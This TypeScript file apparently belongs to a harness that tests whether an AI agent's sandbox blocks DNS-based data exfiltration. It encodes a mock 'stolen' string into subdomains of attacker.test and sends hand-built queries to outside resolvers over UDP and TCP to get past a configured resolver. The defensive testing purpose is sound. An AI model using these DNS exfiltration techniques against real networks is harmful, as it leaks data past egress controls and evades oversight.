import dgram from 'node:dgram'
import { promises as dns } from 'node:dns'
import net from 'node:net'
import { ATTEMPT_TIMEOUT_MS, type Attempt, type Run } from './attempt.ts'

async function lookUp(name: string, type: 'A' | 'TXT'): Promise<Attempt> {
  const resolver = new dns.Resolver({ timeout: ATTEMPT_TIMEOUT_MS, tries: 1 })
  resolver.setServers(['198.19.255.1'])
  try {
    const answers = await resolver.resolve(name, type)
    return { succeeded: true, detail: JSON.stringify(answers) }
  } catch (error) {
    return {
      succeeded: false,
      detail: error instanceof Error && 'code' in error ? String(error.code) : '',
    }
  }
}

/** A query by hand to a resolver of the attacker's own. */
function query(name: string): Buffer {
  const labels = name
    .split('.')
    .map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)]))
  const head = Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0])
  return Buffer.concat([head, ...labels, Buffer.from([0, 0, 16, 0, 1])])
}

function askUdp(server: string, name: string): Promise<Attempt> {
  return new Promise((resolve) => {
    const socket = dgram.createSocket('udp4')
    const timer = setTimeout(() => finish(false, 'no answer'), 700)
    const finish = (succeeded: boolean, detail: string): void => {
      clearTimeout(timer)
      socket.close()
      resolve({ succeeded, detail })
    }
    socket.once('message', () => finish(true, 'answered'))
    socket.once('error', (error: NodeJS.ErrnoException) => finish(false, error.code ?? 'error'))
    socket.connect(53, server, () => socket.send(query(name)))
  })
}

function askTcp(server: string, name: string): Promise<Attempt> {
  return new Promise((resolve) => {
    const socket = net.connect({ host: server, port: 53 })
    const finish = (succeeded: boolean, detail: string): void => {
      socket.destroy()
      resolve({ succeeded, detail })
    }
    const body = query(name)
    socket.setTimeout(ATTEMPT_TIMEOUT_MS, () => finish(false, 'no answer'))
    socket.on('connect', () => socket.write(Buffer.concat([Buffer.from([0, body.length]), body])))
    socket.on('data', () => finish(true, 'answered'))
    socket.on('error', (error: NodeJS.ErrnoException) => finish(false, error.code ?? 'error'))
    socket.on('close', () => finish(false, 'closed'))
  })
}

const stolen = Buffer.from('what the agent stole').toString('hex')

export const dnsAttacks: Readonly<Record<string, Run>> = {
  'dns-exfil': (id) => lookUp(`${stolen}.${id}.attacker.test`, 'A'),
  'dns-txt': (id) => lookUp(`${id}.attacker.test`, 'TXT'),
  'dns-subdomain': (id) => lookUp(`${stolen}.${id}.api.drill.test`, 'A'),
  'dns-foreign': (id) => askUdp('8.8.8.8', `${id}.attacker.test`),
  'dns-foreign-tcp': (id) => askTcp('9.9.9.9', `${id}.attacker.test`),
}
